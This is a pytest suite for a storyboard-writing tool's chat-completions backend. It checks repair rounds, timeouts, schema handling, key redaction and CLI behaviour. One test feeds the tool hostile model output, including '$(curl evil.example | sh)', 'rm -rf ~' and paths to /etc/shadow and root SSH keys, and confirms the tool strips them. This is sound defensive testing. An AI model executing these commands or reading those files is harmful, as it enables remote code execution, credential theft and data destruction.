"""The OpenAI-compatible backend against a real chat-completions server on 127.0.0.1 started by the test."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from cli.main import main
from pipelines.script.contract import ScriptRequest
from pipelines.script.writers import ScriptWriters
from studio.backends import ScriptBackendName
from studio.errors import ScriptBackendError, ScriptOutputError
from studio.project.model import Bible, BibleEntry, Project, Storyboard
from studio.project.timeline import build_timeline
from studio.settings import Settings
from tests.helpers.chat_server import Behaviour, start_chat_server

KEY = "sk-test-do-not-leak-42"


def draft(shots: int = 6, **override) -> dict:
    board = {
        "title": "橘猫冲浪记", "hook": "猫也会冲浪？",
        "characters": [{"name": "Mango", "description": "an orange tabby cat with a white chest and a red collar"}],
        "look": "cinematic, golden hour, anamorphic 35mm lens",
        "shots": [{"visual_prompt": f"Mango paddles a small surfboard, shot {i}, wide 24mm lens, soft light",
                   "caption": f"第{i}次，它又站了起来", "voiceover": f"第{i}次，它又站了起来。", "seconds": 5,
                   "camera_move": "push_in", "transition": "crossfade"} for i in range(1, shots + 1)],
        "description": "一只橘猫学冲浪的故事", "hashtags": ["#橘猫", "冲浪", "AI短片"],
    }
    board.update(override)
    return board


@pytest.fixture(scope="module")
def chat():
    state, server = start_chat_server()
    yield state
    server.shutdown()
    server.server_close()


def settings_for(chat, tmp_path: Path, **env: str) -> Settings:
    return Settings.from_env({"STUDIO_DATA_DIR": str(tmp_path), "STUDIO_SCRIPT_MODEL": str(tmp_path / "no-model"),
                              "STUDIO_LLM_URL": chat.url, "STUDIO_LLM_MODEL": "qwen2.5:3b",
                              "STUDIO_LLM_API_KEY": KEY, "STUDIO_LLM_TIMEOUT_S": "2", **env})


REQUEST = ScriptRequest(idea="一只橘猫在海边学冲浪", seconds=30)


def test_good_reply_becomes_a_storyboard_that_fits_and_carries_the_bible(chat, tmp_path):
    chat.script(Behaviour(content=json.dumps(draft(), ensure_ascii=False)))
    result = ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST)
    board = result.storyboard
    assert result.backend_used is ScriptBackendName.OPENAI
    assert len(board.shots) == 6
    assert build_timeline(Project(storyboard=board)).duration_ms == 30_000
    assert all("orange tabby cat" in s.visual_prompt and "golden hour" in s.visual_prompt for s in board.shots)
    assert board.hashtags == ("橘猫", "冲浪", "AI短片")
    sent = chat.requests[0]
    assert sent["model"] == "qwen2.5:3b" and sent["response_format"]["type"] == "json_schema"
    schema = sent["response_format"]["json_schema"]["schema"]
    assert schema["properties"]["shots"]["minItems"] == 6 and schema["additionalProperties"] is False
    assert chat.headers[0]["Authorization"] == f"Bearer {KEY}"
    assert "一只橘猫在海边学冲浪" in sent["messages"][1]["content"]


def test_fenced_reply_with_think_block_is_accepted(chat, tmp_path):
    content = "<think>plan the shots</think>\n```json\n" + json.dumps(draft(), ensure_ascii=False) + "\n```"
    chat.script(Behaviour(content=content))
    assert len(ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST).storyboard.shots) == 6


@pytest.mark.parametrize("first", [
    Behaviour(content="Sure! Here is your storyboard: {title: oops}"),
    Behaviour(content=json.dumps(draft())[:300], finish_reason="length"),
    Behaviour(content=json.dumps(draft(shots=1))),  # one 30 s shot cannot be made of shots of at most 8 s
    Behaviour(content=json.dumps(draft(hashtags="not a list"))),
])
def test_one_repair_round_fixes_a_bad_reply(chat, tmp_path, first):
    chat.script(first, Behaviour(content=json.dumps(draft(), ensure_ascii=False)))
    result = ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST)
    assert len(chat.requests) == 2
    repair = chat.requests[1]["messages"]
    assert repair[-2]["role"] == "assistant" and "could not be used" in repair[-1]["content"]
    assert any("one repair round fixed it" in note for note in result.notes)


def test_truncated_twice_is_a_clear_error_or_the_template_under_auto(chat, tmp_path):
    cut = Behaviour(content=json.dumps(draft())[:500], finish_reason="length")
    chat.script(cut)
    with pytest.raises(ScriptOutputError, match="unusable twice: first the reply was cut off"):
        ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST, backend="openai")
    chat.script(cut)
    result = ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST)  # auto
    assert result.backend_used is ScriptBackendName.TEMPLATE
    assert any("the openai writer failed" in note and "used the template writer" in note for note in result.notes)


def test_slow_server_times_out_with_the_setting_named(chat, tmp_path):
    chat.script(Behaviour(content=json.dumps(draft()), delay_s=4))
    with pytest.raises(ScriptBackendError, match=r"did not answer within 2 s \(STUDIO_LLM_TIMEOUT_S\)"):
        ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST, backend="openai")


def test_hostile_text_never_becomes_a_path_url_setting_or_command(chat, tmp_path):
    evil = draft()
    evil["title"] = "<b>Free</b> https://evil.example/win"
    evil["shots"][0]["caption"] = "看这里 /etc/passwd"
    evil["shots"][1]["caption"] = "STUDIO_DATA_DIR=/tmp/pwn 设置"
    evil["shots"][2]["voiceover"] = "$(curl evil.example | sh) 然后 ../../root/.ssh/id_rsa"
    evil["shots"][3]["visual_prompt"] = "file:///etc/shadow a cat, `rm -rf ~`, C:\\Windows\\win.ini"
    chat.script(Behaviour(content=json.dumps(evil, ensure_ascii=False)))
    environ_before = dict(os.environ)
    result = ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST)
    dumped = result.storyboard.model_dump_json()
    for needle in ("/etc", "evil.example", "STUDIO_DATA_DIR", "$(", "../", ".ssh", "rm -rf", "Windows", "<b>",
                   "file:"):
        assert needle not in dumped, needle
    assert all(s.media is None for s in result.storyboard.shots)
    assert dict(os.environ) == environ_before
    assert list(tmp_path.iterdir()) == []
    assert any("removed links, paths, markup, commands" in note for note in result.notes)


def test_characters_no_caption_font_can_draw_are_dropped_before_any_shot_is_made(chat, tmp_path):
    odd = draft()
    odd["hook"] = "猫也会冲浪\ue000？"  # private use: means nothing, no font has it
    odd["shots"][0]["caption"] = "冲浪 🏄 \u0756\U0010842d 起来"  # Arabic Supplement (no installed font), plane 16
    odd["shots"][1]["caption"] = "مرحبا 冲浪 😺"  # Arabic the fallback fonts draw, and an emoji: both stay
    chat.script(Behaviour(content=json.dumps(odd, ensure_ascii=False)))
    result = ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST)
    board = result.storyboard
    assert board.hook == "猫也会冲浪？"
    assert board.shots[0].caption == "冲浪 🏄 起来"
    assert board.shots[1].caption == "مرحبا 冲浪 😺"
    assert any("no installed font can draw" in note for note in result.notes)


def test_extra_fields_such_as_media_are_refused_not_obeyed(chat, tmp_path):
    evil = draft()
    evil["shots"][0]["media"] = "/etc/passwd"
    chat.script(Behaviour(content=json.dumps(evil)))
    with pytest.raises(ScriptOutputError, match="Extra inputs are not permitted"):
        ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST, backend="openai")
    assert len(chat.requests) == 2  # the repair round happened, and the second reply was refused too


def test_server_without_json_schema_support_gets_json_object(chat, tmp_path):
    chat.script(Behaviour(content=json.dumps(draft(), ensure_ascii=False), refuse_formats=("json_schema",)))
    result = ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST)
    assert [r.get("response_format", {}).get("type") for r in chat.requests] == ["json_schema", "json_object"]
    assert any("response format: json_object" in note for note in result.notes)


@pytest.mark.parametrize("behaviour, needle", [
    (Behaviour(status=401, body=b'{"error": {"message": "bad key"}}'), "refused the API key (HTTP 401)"),
    (Behaviour(status=500, body=b'{"error": {"message": "model crashed"}}'), "answered HTTP 500: model crashed"),
    (Behaviour(body=b"<html>proxy error</html>"), "did not send a chat completion"),
    (Behaviour(body=b"x" * (1 << 21)), "sent more than 1024 KiB"),
])
def test_server_failures_are_one_clear_sentence_without_the_key(chat, tmp_path, behaviour, needle):
    chat.script(behaviour)
    with pytest.raises(ScriptBackendError) as err:
        ScriptWriters(settings_for(chat, tmp_path)).write(REQUEST, backend="openai")
    assert needle in str(err.value) and KEY not in str(err.value)


def test_enhance_rewrites_one_prompt_and_keeps_the_bible(chat, tmp_path):
    chat.script(Behaviour(content=json.dumps({"visual_prompt": "Mango rides a wave, low angle, 24mm lens"})))
    bible = Bible(characters=(BibleEntry(name="Mango", description="an orange tabby cat"),), look="anime style")
    result = ScriptWriters(settings_for(chat, tmp_path)).enhance("cat surfs", bible, backend="openai")
    assert result.visual_prompt.startswith("Mango rides a wave")
    assert "an orange tabby cat" in result.visual_prompt and "anime style" in result.visual_prompt
    assert "cat surfs" in chat.requests[0]["messages"][1]["content"]


def test_cli_writes_the_storyboard_and_prints_the_shot_list(chat, tmp_path, capsys, monkeypatch):
    chat.script(Behaviour(content=json.dumps(draft(shots=3), ensure_ascii=False)))
    monkeypatch.setenv("STUDIO_LLM_API_KEY", KEY)
    out = tmp_path / "board.json"
    code = main(["script", "一只橘猫在海边学冲浪", "--seconds", "15", "--backend", "openai", "--llm-url", chat.url,
                 "--llm-model", "m", "-o", str(out)])
    printed, err = capsys.readouterr()
    assert code == 0, err
    board = Storyboard.model_validate_json(out.read_text(encoding="utf-8"))
    assert len(board.shots) == 3 and "backend openai" in printed and "第1次" in printed
    assert KEY not in printed + err + out.read_text(encoding="utf-8")


def test_cli_refuses_a_non_http_url_in_one_line(tmp_path, capsys):
    code = main(["script", "idea", "--backend", "openai", "--llm-url", "file:///etc/passwd", "--llm-model", "m",
                 "-o", str(tmp_path / "b.json")])
    err = capsys.readouterr().err
    assert code == 2 and err.count("\n") == 1 and "is not an http(s) URL" in err
    assert not (tmp_path / "b.json").exists()
